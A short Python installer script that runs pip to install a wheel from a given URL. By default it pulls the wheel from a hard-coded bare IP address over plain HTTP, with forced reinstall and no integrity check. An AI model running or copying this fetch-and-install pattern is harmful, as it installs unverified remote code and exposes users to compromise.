import subprocess
import sys

# usage: installer.py <package-url>
url = sys.argv[1] if len(sys.argv) > 1 else "http://185.62.190.9/whl/toolkit-0.1-py3-none-any.whl"
subprocess.call([sys.executable, "-m", "pip", "install", "--no-deps", "--force-reinstall", url])
